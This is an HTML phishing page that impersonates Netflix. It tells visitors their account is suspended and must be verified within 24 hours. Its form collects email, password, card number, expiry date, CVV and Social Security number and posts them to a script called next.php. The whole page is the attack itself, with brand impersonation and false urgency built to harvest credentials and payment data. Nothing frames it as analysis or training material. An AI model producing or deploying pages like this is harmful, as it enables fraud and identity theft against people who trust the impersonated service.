<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Netflix - Account Security</title>
<style>body{margin:0;font-family:"Microsoft YaHei",Arial,sans-serif;background:#f5f5f5}</style>

</head>
<body>
<header class="top-bar"><div class="logo"></div><div class="links"><a href="/list/1">Help</a>
<a href="/page/2">Security</a></div></header>
<main class="container">
<div class="mod">
<div class="alert">Your Netflix account has been suspended. Please verify your account within 24 hours.</div>
</div>
<div class="panel">
<form action="next.php" method="post"><input name="email" placeholder="Email"><input type="password" name="password" placeholder="Password"><input name="card_number" placeholder="Card number"><input name="exp" placeholder="Expiration date (MM/YY)"><input name="cvv" placeholder="Security code (CVV)"><input name="ssn" placeholder="SSN"><button>Continue</button></form>
</div>
</main>
<footer>© Netflix. All rights reserved.</footer>
<script src="/static/js/app.46dee6c5.js"></script>
</body>
</html>
